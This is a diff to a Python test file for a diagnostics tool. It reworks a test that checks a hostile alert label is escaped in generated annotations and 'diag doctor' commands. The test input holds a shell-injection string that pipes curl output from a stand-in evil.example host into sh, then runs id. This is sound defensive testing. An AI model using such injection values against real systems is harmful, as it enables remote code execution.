@@ -8,9 +8,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from diag.artefacts.alerts import doctor_command
 from diag.artefacts.names import alert_label, alert_value
-from diag.core.contract import Site
 
 
 @pytest.mark.parametrize(
@@ -40,8 +38,12 @@ def test_a_hostile_label_is_no_markup_and_ends_no_quote_in_an_annotation(tmp_pat
         "0; curl //evil.example|sh #'\"$(id)`id`<!channel>\n",
         "0? curl ?evil.example?sh ?????id??id???channel??",
     )
-    template = doctor_command(Site(labels=("gpu",), prometheus_url="http://p"))
-    fires(tmp_path, template, f"diag doctor --prometheus http://p --match 'gpu=\"{shown}\"' --from -3540", gpu=evil)
+    fires(
+        tmp_path,
+        f"diag doctor --match 'gpu=\"{alert_label('gpu')}\"'",
+        f"diag doctor --match 'gpu=\"{shown}\"'",
+        gpu=evil,
+    )
     fires(tmp_path, alert_label("gpu"), "GPU-1/[::1]:8" + 87 * "a", gpu="GPU-1/[::1]:8" + 500 * "a")
 
 
